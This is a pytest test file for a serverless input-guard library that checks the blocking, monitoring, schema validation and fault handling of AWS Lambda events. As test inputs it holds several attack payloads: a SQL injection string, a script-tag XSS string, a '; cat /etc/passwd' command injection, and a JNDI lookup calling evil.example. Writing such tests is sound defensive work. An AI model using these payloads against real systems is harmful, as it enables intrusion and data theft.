"""@guard: block and monitor behaviour per source, schema validation, fault injection."""

import copy
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from faasguard.guard import GuardConfig, RequestBlocked, emit, guard
from faasguard.guard import inspection as inspection_module

FIXTURES = Path(__file__).parent / "fixtures"
QUIET = {"sandbox": False, "redact": False}


class Ctx:
    aws_request_id = "req-123"


def load(source: str) -> dict[str, Any]:
    return copy.deepcopy(json.loads((FIXTURES / f"{source}.json").read_text()))


@pytest.fixture()
def events() -> Iterator[list[dict[str, Any]]]:
    lines: list[str] = []
    emit.set_sink(lines.append)
    parsed: list[dict[str, Any]] = []

    class View(list):  # parsed on access so tests read dicts
        def __iter__(self):  # type: ignore[override]
            return iter([json.loads(x) for x in lines])

        def __len__(self) -> int:
            return len(lines)

        def __getitem__(self, i):  # type: ignore[override]
            return json.loads(lines[i])

    yield View(parsed)  # type: ignore[misc]
    emit.set_sink(None)


def echo(event: Any, context: Any) -> Any:
    return {"statusCode": 200, "body": "handled"}


def attack_http() -> dict[str, Any]:
    event = load("apigw_http")
    event["body"] = json.dumps({"username": "admin' or '1'='1"})
    return event


def test_block_mode_returns_400_for_http(events: list[dict[str, Any]]) -> None:
    guarded = guard(echo, mode="block", **QUIET)
    result = guarded(attack_http(), Ctx())
    assert result["statusCode"] == 400
    assert json.loads(result["body"]) == {"message": "Request blocked", "request_id": "req-123"}
    [ev] = list(events)
    assert {k: ev[k] for k in ("type", "detector", "rule_id", "field", "action", "mode", "request_id",
                               "event_source")} == {
        "type": "detection", "detector": "sqli", "rule_id": "FG-SQLI-003", "field": "$.body<json>.username",
        "action": "blocked", "mode": "block", "request_id": "req-123", "event_source": "apigw_http"}
    assert ev["schema"] == "faasguard.guard/1"


def test_monitor_mode_reports_and_runs_the_handler(events: list[dict[str, Any]]) -> None:
    guarded = guard(echo, mode="monitor", **QUIET)
    assert guarded(attack_http(), Ctx()) == {"statusCode": 200, "body": "handled"}
    assert [(e["action"], e["rule_id"]) for e in events] == [("reported", "FG-SQLI-003")]


def test_clean_event_passes_untouched(events: list[dict[str, Any]]) -> None:
    guarded = guard(echo, mode="block", **QUIET)
    assert guarded(load("apigw_http"), Ctx()) == {"statusCode": 200, "body": "handled"}
    assert len(events) == 0


def test_alb_response_has_status_description(events: list[dict[str, Any]]) -> None:
    event = load("alb")
    event["queryStringParameters"]["query"] = "<script>alert(1)</script>"
    result = guard(echo, mode="block", **QUIET)(event, Ctx())
    assert (result["statusCode"], result["statusDescription"]) == (400, "400 Bad Request")


def test_response_shape_is_configurable(events: list[dict[str, Any]]) -> None:
    guarded = guard(echo, mode="block", response={"statusCode": 403, "body": "no"}, **QUIET)
    result = guarded(attack_http(), Ctx())
    assert (result["statusCode"], result["body"]) == (403, "no")
    custom = guard(echo, mode="block", response=lambda found, source: {"source": source, "n": len(found)}, **QUIET)
    assert custom(attack_http(), Ctx()) == {"source": "apigw_http", "n": 1}


def test_sqs_partial_batch_failure(events: list[dict[str, Any]]) -> None:
    event = load("sqs")
    event["Records"][0]["body"] = "; cat /etc/passwd"
    seen: list[list[str]] = []

    def handler(evt: Any, ctx: Any) -> Any:
        seen.append([r["messageId"] for r in evt["Records"]])
        return None

    result = guard(handler, mode="block", **QUIET)(event, Ctx())
    bad_id = load("sqs")["Records"][0]["messageId"]
    good_id = load("sqs")["Records"][1]["messageId"]
    assert result == {"batchItemFailures": [{"itemIdentifier": bad_id}]}
    assert seen == [[good_id]]


def test_sqs_partial_batch_merges_handler_failures(events: list[dict[str, Any]]) -> None:
    event = load("sqs")
    event["Records"][0]["body"] = "<script>alert(1)</script>"

    def handler(evt: Any, ctx: Any) -> Any:
        return {"batchItemFailures": [{"itemIdentifier": "other"}]}

    result = guard(handler, mode="block", **QUIET)(event, Ctx())
    assert result["batchItemFailures"] == [{"itemIdentifier": "other"},
                                           {"itemIdentifier": event["Records"][0]["messageId"]}]


def test_non_http_source_raises_in_block_mode(events: list[dict[str, Any]]) -> None:
    event = load("eventbridge")
    event["detail"]["state"] = "${jndi:ldap://evil.example/a}"
    with pytest.raises(RequestBlocked, match=r"jndi \(FG-JNDI-001\) in \$\.detail\.state"):
        guard(echo, mode="block", **QUIET)(event, Ctx())


@pytest.mark.parametrize("prefer_fast", [True, False])
def test_schema_validation(events: list[dict[str, Any]], prefer_fast: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    if not prefer_fast:
        import builtins

        real_import = builtins.__import__

        def no_fast(name: str, *args: Any, **kwargs: Any) -> Any:
            if name == "fastjsonschema":
                raise ImportError("hidden for this test")
            return real_import(name, *args, **kwargs)

        monkeypatch.setattr(builtins, "__import__", no_fast)
    schema = {"type": "object", "required": ["qty"], "properties": {"qty": {"type": "integer", "minimum": 1}},
              "additionalProperties": False}
    guarded = guard(echo, mode="block", schema=schema, **QUIET)
    from faasguard.guard import schema as schema_module

    assert ("fastjsonschema" if prefer_fast else "pure") == schema_module.ENGINE
    event = load("apigw_http")
    event["body"] = json.dumps({"qty": 2})
    assert guarded(event, Ctx())["statusCode"] == 200
    event["body"] = json.dumps({"qty": 0})
    assert guarded(event, Ctx())["statusCode"] == 400
    event["body"] = "not json"
    assert guarded(event, Ctx())["statusCode"] == 400
    assert [e["rule_id"] for e in events] == ["FG-SCHEMA-001", "FG-SCHEMA-002"]


def test_guard_bug_never_reaches_the_handler_result(events: list[dict[str, Any]],
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    guarded = guard(echo, mode="block", **QUIET)

    def broken(*args: Any, **kwargs: Any) -> Any:
        raise ZeroDivisionError("injected fault")

    monkeypatch.setattr(guarded, "_inspect_values", broken)
    assert guarded(attack_http(), Ctx()) == {"statusCode": 200, "body": "handled"}
    [ev] = list(events)
    assert (ev["type"], ev["rule_id"], ev["field"]) == ("guard_error", "FG-GUARD-ERROR", "inspect")
    assert "ZeroDivisionError: injected fault" in ev["message"]


def test_fault_in_event_collection_and_enforcement(events: list[dict[str, Any]],
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    from faasguard.guard import events as events_module

    guarded = guard(echo, mode="block", **QUIET)
    monkeypatch.setattr(events_module, "collect", lambda *a, **k: (_ for _ in ()).throw(KeyError("boom")))
    assert guarded(attack_http(), Ctx())["statusCode"] == 200
    monkeypatch.undo()
    monkeypatch.setattr(guarded, "_http_response", lambda decision: 1 / 0)
    assert guarded(attack_http(), Ctx()) == {"statusCode": 200, "body": "handled"}
    assert [e["type"] for e in events] == ["guard_error", "detection", "guard_error"]


def test_fault_in_detector_module(events: list[dict[str, Any]], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(inspection_module, "_detect_text", lambda *a, **k: [][1])
    inspection_module.clear_cache()
    guarded = guard(echo, mode="block", **QUIET)
    assert guarded(attack_http(), Ctx())["statusCode"] == 200
    assert [e["type"] for e in events] == ["guard_error"]
    inspection_module.clear_cache()


def test_handler_exceptions_propagate_unchanged(events: list[dict[str, Any]]) -> None:
    def failing(event: Any, context: Any) -> Any:
        raise ValueError("handler's own error")

    with pytest.raises(ValueError, match="handler's own error"):
        guard(failing, mode="block", **QUIET)(load("apigw_http"), Ctx())


def test_decorator_forms_and_env_config(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FAASGUARD_MODE", "block")
    monkeypatch.setenv("FAASGUARD_SANDBOX", "0")
    monkeypatch.setenv("FAASGUARD_REDACT", "0")
    monkeypatch.setenv("FAASGUARD_ALLOW_HOSTS", "api.stripe.com, *.example.org")

    @guard
    def plain(event: Any, context: Any) -> Any:
        """doc"""
        return "ok"

    assert plain.config.mode == "block"
    assert plain.config.allow_hosts == ("api.stripe.com", "*.example.org")
    assert plain.__doc__ == "doc"
    assert GuardConfig.from_env({"FAASGUARD_MODE": "blokc"}).mode == "monitor"
    with pytest.raises(ValueError, match="mode must be one of"):
        GuardConfig(mode="off")
